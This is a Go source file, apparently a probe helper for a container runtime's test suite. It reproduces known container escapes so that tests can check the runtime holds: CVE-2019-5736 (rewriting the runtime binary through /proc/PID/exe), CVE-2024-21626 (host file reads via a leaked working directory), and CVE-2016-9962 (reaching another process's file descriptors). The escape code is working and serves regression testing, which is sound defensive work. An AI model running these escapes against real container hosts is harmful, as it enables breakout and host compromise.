package main

// The modes in this file act out known container escapes from the inside,
// for test/cve_test.go. Each attempt is made for real, and each mode
// prints one JSON object saying what it reached; the test decides from
// that, and from what it sees on the host, whether the runtime held.

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	modes["exe-attack"] = exeAttack
	modes["cwd"] = cwdReport
	modes["peek"] = peekProcess
	modes["rw"] = readWrite
}

// printJSON writes v as one line on stdout and returns the exit code.
func printJSON(v any) int {
	b, err := json.Marshal(v)
	if err != nil {
		fmt.Fprintln(os.Stderr, "probe:", err)
		return 111
	}
	os.Stdout.Write(append(b, '\n'))
	return 0
}

func errnoOf(err error) string {
	if err == nil {
		return ""
	}
	if e, ok := err.(unix.Errno); ok {
		return unix.ErrnoName(e)
	}
	return err.Error()
}

// ExeHandle is one binary that another process of the container runs,
// caught through /proc/PID/exe.
type ExeHandle struct {
	Pid  int    `json:"pid"`
	Exe  string `json:"exe"`
	Comm string `json:"comm"`
	// Errors of the direct opens of /proc/PID/exe for writing ("" if it
	// opened: the attack got a writable handle).
	OpenWrite string `json:"openWrite"`
	OpenRDWR  string `json:"openRDWR"`
	// The last error of reopening the O_PATH handle for writing through
	// /proc/self/fd/N, and of writing through what opened.
	Reopen string `json:"reopen"`
	Write  string `json:"write"`
	Wrote  bool   `json:"wrote"`
}

// exeAttack is CVE-2019-5736: for DURATION it watches /proc for
// processes that run the binary whose sha256 is HASH (the runtime's init
// while it sets up or joins the container, or the runtime binary run again
// through "#!/proc/self/exe"), or only process PID when given, takes an
// O_PATH handle of each through /proc/PID/exe, and keeps trying to reopen
// that handle for writing and to write into it. runc's binary could be
// overwritten this way once no process ran it any more (before that, the
// kernel answers ETXTBSY), so the attempts go on until the end. It prints
// "held PID EXE" when it catches one, and a JSON list of ExeHandle at the
// end.
//
// The hash keeps the attack on the one binary the test means: what it
// writes is a marker at offset 0, and the test runs it against a copy of
// the runtime binary, never the real one.
func exeAttack(args []string) int {
	if len(args) < 2 {
		fmt.Fprintln(os.Stderr, "exe-attack DURATION SHA256 [PID]")
		return 2
	}
	d, err := time.ParseDuration(args[0])
	if err != nil {
		fmt.Fprintln(os.Stderr, "exe-attack DURATION:", err)
		return 2
	}
	want := args[1]
	only := 0
	if len(args) > 2 {
		if only, err = strconv.Atoi(args[2]); err != nil {
			fmt.Fprintln(os.Stderr, "exe-attack PID:", err)
			return 2
		}
	}
	type held struct {
		fd int
		h  *ExeHandle
	}
	var handles []*held
	looked := map[[2]uint64]bool{} // (dev, ino) of binaries looked at
	marker := []byte("CVE-2019-5736 probe was here")
	for end := time.Now().Add(d); time.Now().Before(end); {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() || (only != 0 && pid != only) {
				continue
			}
			p := "/proc/" + e.Name() + "/exe"
			fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue // not ours to see (or gone); it may become so later
			}
			var st unix.Stat_t
			key := [2]uint64{}
			if unix.Fstat(fd, &st) == nil {
				key = [2]uint64{st.Dev, st.Ino}
			}
			if looked[key] || hashOf(fd) != want {
				looked[key] = true
				unix.Close(fd)
				continue
			}
			looked[key] = true
			h := &ExeHandle{Pid: pid}
			h.Exe, _ = os.Readlink(p)
			if b, err := os.ReadFile("/proc/" + e.Name() + "/comm"); err == nil {
				h.Comm = strings.TrimSpace(string(b))
			}
			for _, o := range []struct {
				flags int
				res   *string
			}{{unix.O_WRONLY, &h.OpenWrite}, {unix.O_RDWR, &h.OpenRDWR}} {
				wfd, err := unix.Open(p, o.flags|unix.O_CLOEXEC, 0)
				*o.res = errnoOf(err)
				if err == nil {
					if _, err := unix.Pwrite(wfd, marker, 0); err == nil {
						h.Wrote = true
					}
					unix.Close(wfd)
				}
			}
			fmt.Printf("held %d %s\n", pid, h.Exe)
			handles = append(handles, &held{fd, h})
		}
		for _, hd := range handles {
			if hd.h.Wrote {
				continue
			}
			wfd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(hd.fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			hd.h.Reopen = errnoOf(err)
			if err == nil {
				_, err = unix.Pwrite(wfd, marker, 0)
				hd.h.Write = errnoOf(err)
				hd.h.Wrote = err == nil
				unix.Close(wfd)
			}
		}
		time.Sleep(200 * time.Microsecond)
	}
	out := []*ExeHandle{}
	for _, hd := range handles {
		out = append(out, hd.h)
	}
	return printJSON(out)
}

// hashOf returns the sha256 of the file an O_PATH fd names, read through
// a fresh read-only open of it.
func hashOf(fd int) string {
	f, err := os.Open("/proc/self/fd/" + strconv.Itoa(fd))
	if err != nil {
		return ""
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		return ""
	}
	return hex.EncodeToString(h.Sum(nil))
}

// CwdReport is where a process stands: what getcwd(2) says and what the
// directory is.
type CwdReport struct {
	Getcwd string `json:"getcwd"` // raw: "(unreachable)..." when outside the root
	Errno  string `json:"errno"`
	Dev    uint64 `json:"dev"`
	Ino    uint64 `json:"ino"`
	FSType int64  `json:"fsType"` // statfs f_type of "."
	// The device of the container's own /proc, to tell its procfs from
	// another instance.
	ProcDev uint64 `json:"procDev"`
	// Relative paths the test named: "" if readable, else the errno.
	Reads map[string]string `json:"reads"`
}

// cwdReport looks at the working directory the runtime gave it, and tries
// to read the relative paths in args from there (CVE-2024-21626: a
// working directory left on a host directory reaches the host's files
// through "..").
func cwdReport(args []string) int {
	var r CwdReport
	buf := make([]byte, 4096)
	n, err := unix.Getcwd(buf)
	r.Errno = errnoOf(err)
	if n > 0 {
		r.Getcwd = string(buf[:n-1]) // without the NUL
	}
	var st unix.Stat_t
	if unix.Stat(".", &st) == nil {
		r.Dev, r.Ino = st.Dev, st.Ino
	}
	var fs unix.Statfs_t
	if unix.Statfs(".", &fs) == nil {
		r.FSType = fs.Type
	}
	if unix.Stat("/proc", &st) == nil {
		r.ProcDev = st.Dev
	}
	r.Reads = map[string]string{}
	for _, p := range args {
		_, err := os.ReadFile(p)
		r.Reads[p] = errnoOf(unwrapPath(err))
	}
	return printJSON(r)
}

// Peek is what a process of the container reached of another one's /proc
// entries.
type Peek struct {
	ListFds string            `json:"listFds"` // errno of listing /proc/PID/fd
	Fds     map[string]string `json:"fds"`     // fd → "" if it could be opened, else errno
	Links   map[string]string `json:"links"`   // fd → link target, where readable
	Environ string            `json:"environ"` // errno of reading /proc/PID/environ
	Exe     string            `json:"exe"`     // errno of readlink /proc/PID/exe
}

// peekProcess tries what CVE-2016-9962 did against runc's init: from
// inside the container, reach the fds (and so the host resources) of
// another process there, pid args[0], through /proc/PID/fd.
func peekProcess(args []string) int {
	if len(args) != 1 {
		fmt.Fprintln(os.Stderr, "peek PID")
		return 2
	}
	dir := "/proc/" + args[0]
	p := Peek{Fds: map[string]string{}, Links: map[string]string{}}
	ents, err := os.ReadDir(dir + "/fd")
	p.ListFds = errnoOf(unwrapPath(err))
	for _, e := range ents {
		fd, err := unix.Open(dir+"/fd/"+e.Name(), unix.O_PATH|unix.O_CLOEXEC, 0)
		p.Fds[e.Name()] = errnoOf(err)
		if err == nil {
			unix.Close(fd)
		}
		if l, err := os.Readlink(dir + "/fd/" + e.Name()); err == nil {
			p.Links[e.Name()] = l
		}
	}
	_, err = os.ReadFile(dir + "/environ")
	p.Environ = errnoOf(unwrapPath(err))
	_, err = os.Readlink(dir + "/exe")
	p.Exe = errnoOf(unwrapPath(err))
	return printJSON(p)
}

// RW is one path's fate in readWrite.
type RW struct {
	Read  string `json:"read"` // errno, "" if read
	Data  string `json:"data"` // the first 256 bytes read
	Write string `json:"write"`
}

// readWrite reads each path in args, then opens it for writing and writes
// a line: what a process does with a path it should not be able to use
// against the host.
func readWrite(args []string) int {
	out := map[string]RW{}
	for _, p := range args {
		var r RW
		f, err := os.Open(p)
		if err == nil {
			b := make([]byte, 256)
			n, rerr := f.Read(b)
			if n > 0 {
				r.Data = string(b[:n])
			} else if rerr != nil && !errors.Is(rerr, io.EOF) {
				err = rerr
			}
			f.Close()
		}
		r.Read = errnoOf(unwrapPath(err))
		w, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err == nil {
			_, err = w.Write([]byte("written by the probe\n"))
			w.Close()
		}
		r.Write = errnoOf(unwrapPath(err))
		out[p] = r
	}
	return printJSON(out)
}

// unwrapPath returns the errno inside an *os.PathError (or a *os.SyscallError).
func unwrapPath(err error) error {
	switch e := err.(type) {
	case *os.PathError:
		return e.Err
	case *os.SyscallError:
		return e.Err
	case *os.LinkError:
		return e.Err
	}
	return err
}
